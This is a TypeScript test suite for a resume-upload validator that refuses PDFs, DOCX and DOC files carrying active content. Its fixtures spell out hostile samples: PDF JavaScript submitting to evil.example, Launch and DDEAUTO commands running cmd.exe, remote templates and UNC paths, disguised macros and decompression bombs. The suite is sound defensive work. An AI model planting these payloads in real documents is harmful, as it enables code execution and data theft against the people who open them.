import { deflateRawSync, deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { bytesWindow } from './file-window';
import { hasResumeFormat, isDoc, isDocx, isPdf, ZIP_MAX_ENTRIES } from './resume-format';
import { oleWith } from './__fixtures__/ole';
import { XML_PART_MAX_CHARS } from './docx-parts';
import { documentXml, docxWith, relationships, zipWith } from './__fixtures__/zip';

/** Concatenates bytes and latin-1 strings (one byte per character) into one byte array. */
function bytes(...parts: (string | ArrayLike<number>)[]): Uint8Array {
  return Uint8Array.from(
    parts.flatMap((part) => Array.from(typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
  );
}

const OLE2 = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
const MZ = bytes('MZ', [0x90, 0x00, 0x03, 0x00], 'This program cannot be run in DOS mode.');
const ELF = bytes([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01]);
const MACHO = bytes([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00]);

/** A small but well-formed PDF; `body` goes between the header and the trailer. */
const pdf = (body = '1 0 obj <<>> endobj\n') => bytes(`%PDF-1.4\n${body}trailer <<>>\n%%EOF\n`);
const pdfOk = (content: Uint8Array) => isPdf(bytesWindow(content));
const docxOk = (content: Uint8Array) => isDocx(bytesWindow(content));
const docOk = (content: Uint8Array) => isDoc(bytesWindow(content));

describe('PDF by structure', () => {
  it('accepts a PDF with %%EOF at its end, and binary data inside its streams', async () => {
    expect(await pdfOk(pdf())).toBe(true);
    const stream = bytes('2 0 obj <</Length 40>>\nstream\n', OLE2, MZ, '<html><script>\nendstream\nendobj\n');
    expect(await pdfOk(bytes(pdf('').subarray(0, 9), stream, 'trailer <<>>\n%%EOF'))).toBe(true);
  });

  it('accepts %%EOF followed by a little padding, and refuses it further than 1,024 bytes from the end', async () => {
    expect(await pdfOk(bytes(pdf(), ' '.repeat(1000)))).toBe(true);
    expect(await pdfOk(bytes(pdf(), ' '.repeat(1100)))).toBe(false);
  });

  it('refuses a header followed by HTML', async () => {
    expect(await pdfOk(bytes('%PDF-1.4\n<html><script>alert(1)</script></html>'))).toBe(false);
    expect(await pdfOk(pdf('<HTML><body onload=alert(1)>\n'))).toBe(false);
  });

  it('refuses a PDF carrying a zip with an executable outside its streams', async () => {
    const zip = zipWith([{ name: 'evil.exe', data: MZ }]);
    expect(await pdfOk(bytes(pdf(), zip, '\n%%EOF\n'))).toBe(false);
    expect(await pdfOk(bytes('%PDF-1.4\n', zip, '\n%%EOF'))).toBe(false);
  });

  it('refuses an OLE or ELF signature outside the streams', async () => {
    expect(await pdfOk(pdf(Buffer.from(OLE2).toString('latin1')))).toBe(false);
    expect(await pdfOk(pdf('\x7fELF\n'))).toBe(false);
  });

  it('finds a signature cut in two by the scan window, and a stream that never ends hides nothing', async () => {
    const pad = 'x'.repeat(64 * 1024 - 11);
    expect(await pdfOk(pdf(`${pad}PK\x03\x04`))).toBe(false);
    expect(await pdfOk(pdf(`${pad}<</Length 16>>stream\n<html> \x7fELF endstream\n`))).toBe(true);
    expect(await pdfOk(pdf(`${pad}<</Length 16>>stream\n<html> \x7fELF`))).toBe(true);
    expect(await pdfOk(pdf('endstream PK\x03\x04\n'))).toBe(false);
  });

  it('refuses files that do not start with %PDF-', async () => {
    expect(await pdfOk(bytes(' %PDF-1.4\n%%EOF'))).toBe(false);
    expect(await pdfOk(bytes('%PDF'))).toBe(false);
    expect(await pdfOk(new Uint8Array())).toBe(false);
    expect(await pdfOk(MZ)).toBe(false);
  });
});

/** An object whose dictionary is `dictionary` and whose stream holds `data` (deflated when `flate`). */
function streamObject(dictionary: string, data: string | Uint8Array, flate = false): Uint8Array {
  const raw = typeof data === 'string' ? bytes(data) : data;
  const stored = flate ? new Uint8Array(deflateSync(raw)) : raw;
  const filter = flate ? ' /Filter /FlateDecode' : '';
  return bytes(
    `4 0 obj\n<<${dictionary} /Length ${String(stored.length)}${filter}>>\nstream\n`,
    stored,
    '\nendstream\nendobj\n',
  );
}
const pdfWith = (...parts: (string | Uint8Array)[]) =>
  bytes('%PDF-1.7\n', ...parts, 'trailer <</Root 1 0 R>>\n%%EOF\n');

describe('PDF active content', () => {
  it.each([
    [
      'an /OpenAction running JavaScript',
      '1 0 obj <</Type /Catalog /OpenAction 5 0 R /Names <</JavaScript 6 0 R>>>> endobj\n5 0 obj <</S /JavaScript /JS (app.alert(1);this.submitForm("http://evil.example/"))>> endobj\n',
    ],
    ['a Launch action', '5 0 obj <</S /Launch /Win <</F (cmd.exe) /P (/c calc)>>>> endobj\n'],
    ['a hex-escaped /J#61vaScript', '5 0 obj <</S /J#61vaScript /J#53 (app.alert(1))>> endobj\n'],
    [
      'an /OpenAction with a URI action',
      '1 0 obj <</Type /Catalog /OpenAction <</S /URI /URI (http://evil.example/)>>>> endobj\n',
    ],
    [
      'an /OpenAction to an action object',
      '1 0 obj <</Type /Catalog /OpenAction 5 0 R>> endobj\n5 0 obj <</S /URI /URI (http://evil.example/)>> endobj\n',
    ],
    ['a form sent on opening', '5 0 obj <</S /SubmitForm /F (http://evil.example/)>> endobj\n'],
    ['additional actions (/AA)', '3 0 obj <</Type /Page /AA <</O 5 0 R>>>> endobj\n'],
    ['/EmbeddedFiles', '1 0 obj <</Names <</EmbeddedFiles <</Names [(invoice.exe) 7 0 R]>>>>>> endobj\n'],
    ['/RichMedia', '8 0 obj <</Subtype /RichMedia>> endobj\n'],
    ['an XFA form', '1 0 obj <</AcroForm <</XFA 9 0 R>>>> endobj\n'],
    ['an encrypted PDF', 'trailer <</Encrypt <</Filter /Standard /V 2>>>>\n'],
  ])('refuses %s', async (_label, objects) => {
    expect(await pdfOk(pdfWith(objects))).toBe(false);
  });

  it('refuses an embedded file stream and JavaScript kept in a compressed object stream', async () => {
    expect(await pdfOk(pdfWith(streamObject(' /Type /EmbeddedFile', MZ)))).toBe(false);
    const objects = '5 0 6 40 <</S /JavaScript /JS (app.alert(1))>> <</Type /Catalog /OpenAction 5 0 R>>';
    expect(await pdfOk(pdfWith(streamObject(' /Type /ObjStm /N 2 /First 9', objects, true)))).toBe(false);
    expect(await pdfOk(pdfWith(streamObject(' /Type /ObjStm /N 1 /First 9', '5 0 <</Type /Font>>', true)))).toBe(true);
  });

  it('accepts a destination /OpenAction, links, and the names of active content inside a string', async () => {
    const catalog = '1 0 obj <</Type /Catalog /OpenAction [3 0 R /Fit] /Info 2 0 R>> endobj\n';
    const link = '4 0 obj <</Type /Annot /Subtype /Link /A <</S /URI /URI (https://acme.example/)>>>> endobj\n';
    const info = '2 0 obj <</Title (Notes on /JavaScript and /Launch \\) /JS)>> endobj\n';
    expect(await pdfOk(pdfWith(catalog, link, info))).toBe(true);
    // LaTeX (hyperref) writes the destination as an object of its own.
    const latex = '1 0 obj <</Type /Catalog /OpenAction 98 0 R>> endobj\n98 0 obj [3 0 R /Fit] endobj\n';
    expect(await pdfOk(pdfWith(latex))).toBe(true);
    expect(await pdfOk(pdfWith(streamObject('', 'BT /F1 12 Tf (Giulia /JS) Tj ET', true)))).toBe(true);
  });

  it('refuses a zip inside the decoded bytes of a stream, raw or deflated', async () => {
    const zip = zipWith([{ name: 'invoice.exe', data: MZ }]);
    expect(await pdfOk(pdfWith(streamObject('', zip)))).toBe(false);
    expect(await pdfOk(pdfWith(streamObject('', zip, true)))).toBe(false);
  });

  it('reads `stream` only after a dictionary with /Length, never in a comment or a string', async () => {
    const comment = '%stream\n<html><body><script>alert(1)</script>PK\x03\x04\x7fELF</body></html>\n%endstream\n';
    expect(await pdfOk(pdfWith(comment))).toBe(false);
    expect(await pdfOk(pdfWith('1 0 obj (a string\nstream\n) endobj\n<html>\nendstream\n'))).toBe(false);
    expect(await pdfOk(pdfWith('1 0 obj <</Type /X>>\nstream\n<script>alert(1)</script>\nendstream\n'))).toBe(false);
  });

  it('refuses FlateDecode streams that expand past PDF_MAX_INFLATED_BYTES in all, without holding them', async () => {
    const zeros = new Uint8Array(deflateSync(new Uint8Array(140 * 1024 * 1024)));
    const object = (number: number) =>
      bytes(
        `${String(number)} 0 obj\n<</Length ${String(zeros.length)} /Filter /FlateDecode>>\nstream\n`,
        zeros,
        '\nendstream\nendobj\n',
      );
    const started = performance.now();
    expect(await pdfOk(pdfWith(object(4), object(5)))).toBe(false);
    console.log(`PDF of 280 MB of FlateDecode zeros refused in ${(performance.now() - started).toFixed(0)} ms`);
  }, 30_000);
});

describe('DOCX by structure', () => {
  it('accepts a zip whose central directory lists word/document.xml and [Content_Types].xml', async () => {
    expect(await docxOk(docxWith())).toBe(true);
    expect(await docxOk(docxWith([{ name: 'word/media/image1.png', data: '\x89PNG' }]))).toBe(true);
  });

  it('refuses a zip holding an executable next to word/document.xml, by name or by content', async () => {
    expect(await docxOk(docxWith([{ name: 'evil.exe', data: 'x' }]))).toBe(false);
    for (const name of [
      'a.DLL',
      'x/run.bat',
      'y.js',
      'z.vbs',
      'p.ps1',
      's.sh',
      'j.jar',
      'i.msi',
      'c.scr',
      'c.cmd',
      'c.com',
    ]) {
      expect(await docxOk(docxWith([{ name, data: 'x' }])), name).toBe(false);
    }
    expect(await docxOk(docxWith([{ name: 'word/media/image2.png', data: MZ }]))).toBe(false);
    expect(await docxOk(docxWith([{ name: 'word/media/image2.png', data: ELF, deflate: true }]))).toBe(false);
    expect(await docxOk(docxWith([{ name: 'word/embeddings/x.bin', data: MACHO }]))).toBe(false);
  });

  it('refuses a document.xml that exists only as bytes inside another entry', async () => {
    const inner = zipWith([{ name: 'word/document.xml', data: '<w:document/>' }]);
    const outer = zipWith([
      { name: '[Content_Types].xml', data: '<Types/>' },
      { name: 'payload.bin', data: inner },
    ]);
    expect(await docxOk(outer)).toBe(false);
    const hidden = zipWith([
      { name: '[Content_Types].xml', data: '<Types/>' },
      { name: 'word/document.xml', data: '<w:document/>', hidden: true },
    ]);
    expect(await docxOk(hidden)).toBe(false);
  });

  it('refuses macros: a vbaProject.bin entry, or a macro-enabled content type', async () => {
    expect(await docxOk(docxWith([{ name: 'word/vbaProject.bin', data: 'x' }]))).toBe(false);
    const docm = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
    expect(await docxOk(docxWith([], docm))).toBe(false);
  });

  it('refuses a deflate bomb without inflating it', async () => {
    const bomb = deflateRawSync(Buffer.alloc(64 * 1024 * 1024));
    const started = performance.now();
    const zip = zipWith([
      { name: '[Content_Types].xml', data: '<Types/>' },
      { name: 'word/document.xml', data: bomb, declaredSize: 0xfffffff0 },
    ]);
    // Stored as it is: the check must not inflate the 64 MB behind it.
    expect(await docxOk(zip)).toBe(false);
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it('inflates each entry as a stream held to its declared size: 64 MB of zeros pass, memory stays flat', async () => {
    const zip = docxWith([{ name: 'word/media/blank.bin', data: new Uint8Array(64 * 1024 * 1024), deflate: true }]);
    expect(await docxOk(zip)).toBe(true);
  });

  it('refuses a [Content_Types].xml that inflates past its cap whatever size it declares', async () => {
    const swollen = `<Types/>${' '.repeat(300 * 1024)}`;
    const zip = zipWith([
      { name: '[Content_Types].xml', data: swollen, deflate: true, declaredSize: 8 },
      { name: 'word/document.xml', data: '<w:document/>', deflate: true },
    ]);
    expect(await docxOk(zip)).toBe(false);
    const honest = zipWith([
      { name: '[Content_Types].xml', data: swollen.slice(0, 200 * 1024), deflate: true },
      { name: 'word/document.xml', data: '<w:document/>', deflate: true },
    ]);
    expect(await docxOk(honest)).toBe(true);
  });

  it('refuses absurd archives: too many entries, a truncated end record, a wrong local header', async () => {
    const many = Array.from({ length: ZIP_MAX_ENTRIES + 1 }, (_, index) => ({ name: `word/x${index}.xml` }));
    expect(await docxOk(docxWith(many))).toBe(false);
    const whole = docxWith();
    expect(await docxOk(whole.subarray(0, whole.length - 10))).toBe(false);
    const corrupted = new Uint8Array(whole);
    corrupted.set([0, 0, 0, 0], whole.length - 22 - 46 * 2 - '[Content_Types].xml'.length - 'word/document.xml'.length); // wipe a central record signature
    expect(await docxOk(corrupted)).toBe(false);
  });

  it('refuses entries whose data overlap (a bomb built of honest sizes)', async () => {
    const parts = [
      { name: '[Content_Types].xml', data: '<Types/>' },
      { name: 'word/document.xml', data: '<w:document/>' },
      { name: 'word/header1.xml', data: '<w:document/>' },
    ];
    expect(await docxOk(zipWith(parts))).toBe(true);
    const overlapping = zipWith(parts);
    const at = new DataView(overlapping.buffer);
    let record = at.getUint32(overlapping.length - 6, true);
    const offsets: number[] = [];
    for (const _ of parts) {
      offsets.push(record + 42);
      record += 46 + at.getUint16(record + 28, true);
    }
    const [, second = 0, third = 0] = offsets;
    at.setUint32(third, at.getUint32(second, true), true);
    expect(await docxOk(overlapping)).toBe(false);
  });

  it('refuses a zip without word/document.xml, and a PDF or OLE file', async () => {
    expect(await docxOk(zipWith([{ name: '[Content_Types].xml' }, { name: 'xl/workbook.xml' }]))).toBe(false);
    expect(await docxOk(zipWith([{ name: 'password/document.xml' }, { name: '[Content_Types].xml' }]))).toBe(false);
    expect(await docxOk(pdf())).toBe(false);
    expect(await docxOk(oleWith(['WordDocument']))).toBe(false);
  });
});

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/';
const run = (xml: string) => `<w:r>${xml}</w:r>`;
/** A complex field as Word writes it: begin, the instruction in runs, separate, a result, end. */
const complexField = (...instruction: string[]) =>
  [
    run('<w:fldChar w:fldCharType="begin"/>'),
    ...instruction.map((part) => run(`<w:instrText xml:space="preserve">${part}</w:instrText>`)),
    run('<w:fldChar w:fldCharType="separate"/>'),
    run('<w:t>result</w:t>'),
    run('<w:fldChar w:fldCharType="end"/>'),
  ].join('');
const withDocument = (body: string) => docxWith([], '<Types/>', documentXml(body));

describe('DOCX active content', () => {
  it('refuses a relationship to an outside target in any .rels: a remote template, a UNC image', async () => {
    const template = relationships(`${REL}attachedTemplate`, 'http://evil.example/t.dotm', 'External');
    expect(await docxOk(docxWith([{ name: 'word/_rels/settings.xml.rels', data: template, deflate: true }]))).toBe(
      false,
    );
    const unc = relationships(`${REL}image`, 'file://evil.example/share/x.png', 'External');
    expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: unc }]))).toBe(false);
    for (const mode of ['&#69;xternal', 'external', ' External ']) {
      const written = relationships(`${REL}image`, 'http://evil.example/x.png', mode);
      expect(await docxOk(docxWith([{ name: '_rels/.rels', data: written }])), mode).toBe(false);
    }
  });

  it("accepts a web or mail link (opened only when clicked), a template on the author's disk, an internal image", async () => {
    for (const target of ['https://www.linkedin.com/in/giulia', 'mailto:giulia@acme.example']) {
      const link = relationships(`${REL}hyperlink`, target, 'External');
      expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: link }])), target).toBe(true);
    }
    const image = relationships(`${REL}image`, 'media/image1.png');
    expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: image }]))).toBe(true);
    for (const target of [
      'file:///C:\\Users\\giulia\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx',
      'C:/Templates/CV.dotx',
    ]) {
      const template = relationships(`${REL}attachedTemplate`, target, 'External');
      expect(await docxOk(docxWith([{ name: 'word/_rels/settings.xml.rels', data: template }])), target).toBe(true);
    }
    for (const target of [
      'file://evil.example/share/t.dotm',
      '\\\\evil.example\\share\\t.dotm',
      'file:///\\\\evil\\t.dotm',
    ]) {
      const template = relationships(`${REL}attachedTemplate`, target, 'External');
      expect(await docxOk(docxWith([{ name: 'word/_rels/settings.xml.rels', data: template }])), target).toBe(false);
    }
    const unc = relationships(`${REL}hyperlink`, 'file://evil.example/share', 'External');
    expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: unc }]))).toBe(false);
  });

  it('refuses embedded objects: word/embeddings/*, and the oleObject and package relationship types', async () => {
    const ole = bytes(OLE2, 'Ole10Native', MZ);
    expect(await docxOk(docxWith([{ name: 'word/embeddings/oleObject1.bin', data: ole, deflate: true }]))).toBe(false);
    for (const type of ['oleObject', 'package']) {
      const rels = relationships(`${REL}${type}`, 'media/image9.png');
      expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: rels }])), type).toBe(false);
    }
  });

  it('refuses altChunk and its aFChunk relationship', async () => {
    expect(await docxOk(withDocument('<w:altChunk r:id="rId9"/>'))).toBe(false);
    const rels = relationships(`${REL}aFChunk`, 'afchunk.mht');
    expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: rels }]))).toBe(false);
  });

  it('refuses DDE, DDEAUTO and INCLUDE* fields, however the runs split the instruction', async () => {
    const fields = [
      `<w:fldSimple w:instr=' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'/>`,
      complexField(' DD', 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '),
      complexField('DDE c:\\\\x.exe'),
      complexField(' INCLUDEPICTURE "http://evil.example/x.png" \\d '),
      complexField('includetext "\\\\\\\\evil.example\\\\share\\\\x.docx"'),
      complexField('&#68;DEAUTO c:\\\\x.exe'),
      // The outer field's name comes from a nested QUOTE field: the way DDE hides from the text.
      run('<w:fldChar w:fldCharType="begin"/>') + complexField('QUOTE 68 68 69') + complexField(' c:\\\\x.exe'),
    ];
    for (const field of fields) expect(await docxOk(withDocument(field)), field).toBe(false);
    const header = documentXml(complexField('DDEAUTO c:\\\\x.exe'));
    expect(await docxOk(docxWith([{ name: 'word/header1.xml', data: header, deflate: true }]))).toBe(false);
    const utf16 = new Uint8Array(Buffer.from(`\uFEFF${documentXml(complexField('DDEAUTO c:\\\\x.exe'))}`, 'utf16le'));
    expect(await docxOk(docxWith([], '<Types/>', utf16))).toBe(false);
  });

  it('accepts ordinary fields: PAGE, HYPERLINK, a table of contents, nested fields with a name', async () => {
    const fields = [
      '<w:fldSimple w:instr=" PAGE "/>',
      complexField(' HYPERLINK "https://acme.example" '),
      complexField(' TOC \\o "1-3" \\h '),
      complexField(' IF ') + complexField(' PAGE ') + run('<w:t>=1</w:t>'),
    ];
    for (const field of fields) expect(await docxOk(withDocument(field)), field).toBe(true);
  });

  it('refuses a vbaProject relationship, and macros written with character references', async () => {
    const rels = relationships('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'macros.dat');
    expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: rels }]))).toBe(false);
    const disguised =
      '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>' +
      '<Override PartName="/word/macros.dat" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>';
    expect(await docxOk(docxWith([{ name: 'word/macros.dat', data: 'x' }], disguised))).toBe(false);
    expect(await docxOk(docxWith([], '<!DOCTYPE Types [<!ENTITY m "macroEnabled">]><Types/>'))).toBe(false);
  });

  it('refuses an XML part that is not well-formed, or larger than XML_PART_MAX_CHARS', async () => {
    expect(await docxOk(docxWith([], '<Types><Default'))).toBe(false);
    expect(await docxOk(docxWith([], '<Types/>', '<w:document>&undefined;</w:document>'))).toBe(false);
    const huge = `<w:document>${' '.repeat(XML_PART_MAX_CHARS)}</w:document>`;
    expect(await docxOk(docxWith([], '<Types/>', huge))).toBe(false);
    const large = `<w:document>${' '.repeat(XML_PART_MAX_CHARS - 100)}</w:document>`;
    expect(await docxOk(docxWith([], '<Types/>', large))).toBe(true);
  });

  it('refuses duplicate entry names: a clean [Content_Types].xml and a macro-enabled one', async () => {
    const docm = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
    const zip = zipWith([
      { name: '[Content_Types].xml', data: '<Types/>' },
      { name: 'word/document.xml', data: '<w:document/>' },
      { name: '[Content_Types].xml', data: docm },
    ]);
    expect(await docxOk(zip)).toBe(false);
    expect(await docxOk(docxWith([{ name: 'WORD/document.xml', data: '<w:document/>' }]))).toBe(false);
  });

  it('refuses an entry that inflates past its declared size, or short of it, without inflating the rest', async () => {
    const liar = docxWith([
      { name: 'word/media/big.xml', data: new Uint8Array(32 * 1024 * 1024), deflate: true, declaredSize: 1000 },
    ]);
    const started = performance.now();
    expect(await docxOk(liar)).toBe(false);
    expect(performance.now() - started).toBeLessThan(1000);
    const short = docxWith([{ name: 'word/media/a.png', data: '\x89PNG', deflate: true, declaredSize: 5 }]);
    expect(await docxOk(short)).toBe(false);
    const stored = docxWith([{ name: 'word/media/a.png', data: '\x89PNG....', declaredSize: 4 }]);
    expect(await docxOk(stored)).toBe(false);
  });
});

describe('DOC by structure', () => {
  it('accepts an OLE compound file whose directory holds a WordDocument stream', async () => {
    expect(await docOk(oleWith(['WordDocument', '1Table']))).toBe(true);
    expect(await docOk(oleWith(['1Table', 'WordDocument']))).toBe(true);
  });

  it.each(['Macros', 'VBA', '_VBA_PROJECT_CUR', 'ObjectPool', 'macros'])(
    'refuses a .doc holding the %s storage: macros or embedded objects',
    async (storage) => {
      expect(await docOk(oleWith(['WordDocument'], [storage]))).toBe(false);
      expect(await docOk(oleWith(['WordDocument', '1Table'], [storage]))).toBe(false);
    },
  );

  it('accepts a .doc with other storages next to its WordDocument stream', async () => {
    expect(await docOk(oleWith(['WordDocument'], ['ObjInfo']))).toBe(true);
  });

  it('refuses an OLE file without a Word stream (an Excel workbook), and the bare signature', async () => {
    expect(await docOk(oleWith(['Workbook']))).toBe(false);
    expect(await docOk(bytes(OLE2, [0, 0, 0x3e, 0]))).toBe(false);
  });

  it('refuses a directory chain that loops or points past the end of the file', async () => {
    const looping = oleWith(['Workbook']);
    new DataView(looping.buffer).setUint32(512 + 4, 1, true); // sector 1 → sector 1
    expect(await docOk(looping)).toBe(false);
    const outside = oleWith(['WordDocument']);
    new DataView(outside.buffer).setUint32(48, 1000, true);
    expect(await docOk(outside)).toBe(false);
  });

  it('refuses a PDF and a zip named .doc', async () => {
    expect(await docOk(pdf())).toBe(false);
    expect(await docOk(docxWith())).toBe(false);
  });
});

describe('hasResumeFormat', () => {
  it('checks the structure the extension names', async () => {
    expect(await hasResumeFormat(bytesWindow(pdf()), '.pdf')).toBe(true);
    expect(await hasResumeFormat(bytesWindow(pdf()), '.docx')).toBe(false);
    expect(await hasResumeFormat(bytesWindow(docxWith()), '.docx')).toBe(true);
    expect(await hasResumeFormat(bytesWindow(oleWith(['WordDocument'])), '.doc')).toBe(true);
    expect(await hasResumeFormat(bytesWindow(MZ), '.pdf')).toBe(false);
  });
});
